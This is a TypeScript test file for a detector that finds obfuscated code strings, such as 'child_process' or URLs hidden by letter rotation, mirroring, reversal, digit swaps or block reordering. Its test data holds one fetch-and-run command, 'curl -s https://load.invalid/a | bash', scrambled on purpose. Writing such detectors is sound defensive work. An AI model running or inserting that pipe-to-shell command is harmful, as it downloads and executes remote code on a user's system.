import { exchangedIn, isMoved } from "./exchanged-letters.js";

const rotated = (text: string, by: number) =>
  text.replace(/[a-z]/g, (one) => String.fromCharCode(((one.charCodeAt(0) - 97 + by) % 26) + 97));
const mirrored = (text: string) =>
  text.replace(/[a-z]/g, (one) => String.fromCharCode(219 - one.charCodeAt(0)));
const reversed = (text: string) => [...text].reverse().join("");

test.each([
  ["const m = ", rotated("child_process", 13), "child_process", "with other letters"],
  ["x = ", rotated("file_get_contents", 5), "file_get_contents", "with other letters"],
  ["x = ", mirrored("child_process"), "child_process", "with the letters of a mirrored alphabet"],
  ["x = ", reversed(rotated("https://a.invalid", 13)), "https://", "with other letters, backwards"],
  ["x = ", "h77p5://a.inv4lid", "h77p5://", "with digits in place of letters"],
])("a name with exchanged letters is found: %s%s", (before, written, text, form) => {
  expect(exchangedIn(`${before}"${written}"`)).toEqual({
    at: form.startsWith("with digits") ? before.length + 1 : expect.any(Number),
    text,
    form,
  });
});

test.each(["https://a.invalid", "child_process", "subprocess.run", "the crontab of a user"])(
  "a name that is written as it is has no exchanged letters: %s",
  (text) => {
    expect(exchangedIn(text)).toBeUndefined();
  },
);

const inBlocks = (text: string, size: number) =>
  (text.match(new RegExp(`.{1,${size}}`, "g")) ?? []).map(reversed).join("");
/** The letters of a text, first each of the first place in a group of so many, then those of the second. */
const sorted = (text: string, parts: number) =>
  Array.from({ length: parts }, (_, part) => [...text].filter((_, at) => at % parts === part).join("")).join(
    "",
  );

test.each([2, 3, 5, 8])("an address whose blocks of %i letters are reversed is moved", (size) => {
  expect(isMoved(inBlocks("(curl -s https://load.invalid/a | bash)", size))).toBe(true);
});

test.each([2, 3, 4])("an address of which every letter of %i is written first is moved", (parts) => {
  const text = "https://load.invalid/path/abcd".slice(0, 30 - (30 % parts));
  expect(isMoved(sorted(text, parts))).toBe(true);
});

test.each(["https://load.invalid/a/b", "C:/path/to/the/http/files", "a/b/c: the paths of http", ""])(
  "a text in its order is not moved: %s",
  (text) => {
    expect(isMoved(text)).toBe(false);
  },
);
